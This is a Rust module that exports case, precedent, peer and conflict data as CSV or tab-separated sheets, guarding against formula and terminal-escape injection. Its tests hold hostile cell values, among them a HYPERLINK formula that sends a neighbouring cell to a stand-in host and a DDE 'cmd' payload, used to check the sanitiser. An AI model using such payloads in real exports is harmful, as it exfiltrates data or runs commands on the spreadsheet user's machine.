//! Sheets: lists for other programs, comma-separated for spreadsheets (RFC 4180), or plain lines with tabs between
//! cells.
//!
//! Texts of other people end up in a spreadsheet here, so no cell begins like a formula: a spreadsheet would run it,
//! and a formula can send away the values beside it. Times have one form (ISO 8601, UTC) in every language.

use clap::ValueEnum;
use protocol::app::control::{Answered, Claim, Conflict, Past, Peer, Precedent, RecordKind, Summary};

use super::{
    dispute::fate,
    in_utc, iso,
    record::{self, shown, what},
    steers,
};
use crate::texts;

/// The separator between several values in one cell.
const AND: &str = "; ";
/// The mark (BOM) that tells a spreadsheet that the text is UTF-8; without it most show Cyrillic as other characters.
const MARK: char = '\u{feff}';
/// The characters that a formula can begin with, in the widths that spreadsheets accept (OWASP, CSV injection).
const FORMULA: &[char] = &['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/// In which form a list is wanted.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, ValueEnum)]
pub(crate) enum Form {
    /// For people.
    #[default]
    Table,
    /// A line for each row, tabs between its cells.
    Plain,
    /// For spreadsheets (RFC 4180).
    Csv,
}

/// A sheet: a header and rows of the same length.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Sheet {
    header: Vec<String>,
    rows: Vec<Vec<String>>,
}

impl Sheet {
    /// The sheet as CSV (RFC 4180): CRLF after each row, quotation marks around the cells that need them.
    pub(crate) fn csv(&self) -> String {
        let row =
            |row: &Vec<String>| row.iter().map(|cell| quoted(&harmless(cell))).collect::<Vec<_>>().join(",") + "\r\n";
        std::iter::once(MARK.to_string()).chain(self.all().map(row)).collect()
    }

    /// The sheet as plain text: a tab between cells; a tab or line break within one becomes a space.
    pub(crate) fn plain(&self) -> String {
        let cell = |cell: &String| cell.chars().map(|c| if c.is_whitespace() { ' ' } else { c }).map(visible).collect();
        let row = |row: &Vec<String>| row.iter().map(cell).collect::<Vec<String>>().join("\t");
        self.all().map(row).collect::<Vec<_>>().join("\n")
    }

    fn all(&self) -> impl Iterator<Item = &Vec<String>> {
        std::iter::once(&self.header).chain(&self.rows)
    }
}

/// The sheet of case files or dockets, a row for each record.
pub(crate) fn records(kind: RecordKind, records: &[Summary]) -> Sheet {
    let row = |record: &Summary| {
        vec![
            record.label.clone().unwrap_or_default(),
            record.pseudonym.clone(),
            record::stage(&record.stage),
            record.conflicts.to_string(),
            iso(record.changed),
            record.readers.join(AND),
            record.record.to_string(),
        ]
    };
    Sheet { header: texts::sheet::records(kind).into(), rows: records.iter().map(row).collect() }
}

/// The sheet of precedents, dockets that match a question: a row for each argument.
pub(crate) fn precedents(found: &[Precedent]) -> Sheet {
    let label = |field: &str, codes: &[String]| {
        let labels: Vec<_> = codes.iter().map(|code| shown(field, &code.as_str().into())).collect();
        labels.join(AND)
    };
    let rows = |precedent: &Precedent| {
        let own = vec![precedent.summary.pseudonym.clone(), precedent.found.articles.join(AND)];
        let id = precedent.summary.record.to_string();
        let argument = |answered: Option<&Answered>| {
            let said = answered.map_or_else(Default::default, |answered| {
                [
                    label("docket_argument.code", &answered.argument),
                    label("docket_argument.circumstance", &answered.circumstances),
                    label("docket_argument.response", &answered.response),
                    answered.courts.join(AND),
                ]
            });
            [own.clone(), said.into(), vec![id.clone()]].concat()
        };
        match precedent.found.arguments.as_slice() {
            [] => vec![argument(None)],
            some => some.iter().map(|answered| argument(Some(answered))).collect::<Vec<_>>(),
        }
    };
    Sheet { header: texts::sheet::precedents().into(), rows: found.iter().flat_map(rows).collect() }
}

/// The sheet of peers.
pub(crate) fn peers(peers: &[Peer]) -> Sheet {
    let row = |peer: &Peer| {
        vec![
            peer.call_sign.clone(),
            peer.petname.clone().unwrap_or_default(),
            texts::yes_no(peer.connected),
            texts::yes_no(peer.up_to_date),
            texts::yes_no(peer.held),
            peer.equal_at.map(iso).unwrap_or_default(),
            peer.node.to_string(),
        ]
    };
    Sheet { header: texts::sheet::peers().into(), rows: peers.iter().map(row).collect() }
}

/// The sheet of conflicts: a row for each disputed value.
pub(crate) fn conflicts(conflicts: &[Conflict]) -> Sheet {
    let row = |conflict: &Conflict, said: &Claim| {
        let own = vec![
            what(&conflict.field),
            conflict.field.clone(),
            conflict.entity.to_string(),
            texts::yes_no(conflict.settled),
            shown(&conflict.field, &said.value),
            texts::yes_no(said.chosen),
        ];
        [own, claim(said)].concat()
    };
    let rows = conflicts.iter().flat_map(|conflict| conflict.claims.iter().map(move |claim| row(conflict, claim)));
    Sheet { header: texts::sheet::conflicts(), rows: rows.collect() }
}

/// The sheet of a history: a row for each claim ever made.
pub(crate) fn history(claims: &[Past]) -> Sheet {
    let row = |past: &Past| {
        let own = vec![
            what(&past.field),
            past.field.clone(),
            past.entity.to_string(),
            shown(&past.field, &past.claim.value),
            in_utc(|| fate(past)),
        ];
        [own, claim(&past.claim)].concat()
    };
    Sheet { header: texts::sheet::history(), rows: claims.iter().map(row).collect() }
}

/// The cells of a claim: who states it, petname, for whom, when, grade, sources, and its place.
fn claim(claim: &Claim) -> Vec<String> {
    let organisation = || claim.organisation.to_string();
    vec![
        claim.call_sign.clone().unwrap_or_else(organisation),
        claim.petname.clone().unwrap_or_default(),
        claim.reported_by.clone().unwrap_or_default(),
        iso(claim.at),
        claim.grade.clone().unwrap_or_default(),
        claim.sources.iter().map(ToString::to_string).collect::<Vec<_>>().join(AND),
        format!("{}/{}", claim.entry, claim.index),
    ]
}

/// A harmless cell: no spreadsheet takes it for a formula, and it has no control characters.
fn harmless(cell: &str) -> String {
    let begins = cell.trim_start_matches([' ', '\u{a0}', '"', '\'', '\u{feff}']).starts_with(FORMULA);
    let quote = if begins || cell.starts_with(FORMULA) { "'" } else { "" };
    quote.chars().chain(cell.chars().map(visible)).collect()
}

fn visible(char: char) -> char {
    if char != '\n' && char != '\t' && steers(char) { '\u{fffd}' } else { char }
}

fn quoted(cell: &str) -> String {
    let needs = cell.contains([',', '"', '\n', '\r', '\t', ';']) || cell.starts_with(' ') || cell.ends_with(' ');
    if needs { format!("\"{}\"", cell.replace('"', "\"\"")) } else { cell.to_owned() }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sheet(cells: &[&str]) -> Sheet {
        Sheet { header: vec!["a".into()], rows: cells.iter().map(|&cell| vec![cell.to_owned()]).collect() }
    }

    fn check(cell: &str, expected: &str) {
        assert_eq!(sheet(&[cell]).csv(), format!("\u{feff}a\r\n{expected}\r\n"), "{cell:?}");
    }

    #[test]
    fn a_row_ends_with_crlf_and_a_cell_is_quoted_where_it_must_be() {
        check("plain", "plain");
        check("дело", "дело");
        check("a,b", "\"a,b\"");
        check("say \"no\"", "\"say \"\"no\"\"\"");
        check("two\nlines", "\"two\nlines\"");
        check("", "");
        let two = Sheet { header: vec!["a".into(), "b".into()], rows: vec![vec!["1".into(), "2".into()]] };
        assert_eq!(two.csv(), "\u{feff}a,b\r\n1,2\r\n");
    }

    #[test]
    fn no_cell_begins_as_a_formula_does() {
        for hostile in [
            "=1+1",
            "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")",
            "+1",
            "-1+cmd|' /C calc'!A0",
            "@SUM(A1)",
            "\t=1",
            "\n=1",
            "\r=1",
            " =1",
            "\u{a0}=1",
            "\u{feff}=1",
            "\"=1",
            "＝1",
            "＋1",
            "－1",
            "＠x",
        ] {
            let csv = sheet(&[hostile]).csv();
            let cell = csv.lines().nth(1).expect("a row");
            let cell = cell.trim_start_matches('"');
            assert!(cell.starts_with('\''), "{hostile:?} becomes {cell:?}");
        }
        check("a=b", "a=b");
        check("2025-04-15", "2025-04-15");
    }

    #[test]
    fn nothing_in_a_sheet_steers_a_terminal() {
        let hostile = sheet(&["\u{1b}[2Jred\u{202e}x\u{9b}1m\r"]);
        for text in [hostile.csv().replace("\r\n", "\n"), hostile.plain()] {
            assert!(text.contains("red"));
            assert!(!text.chars().any(|char| char != '\n' && steers(char)), "{text:?}");
        }
    }

    #[test]
    fn a_plain_row_is_one_line_with_tabs_between_its_cells_alone() {
        let sheet = Sheet {
            header: vec!["a".into(), "b".into()],
            rows: vec![vec!["x\ty\nz".into(), "=1".into()], vec![String::new(), "w".into()]],
        };
        assert_eq!(sheet.plain(), "a\tb\nx y z\t=1\n\tw");
    }
}
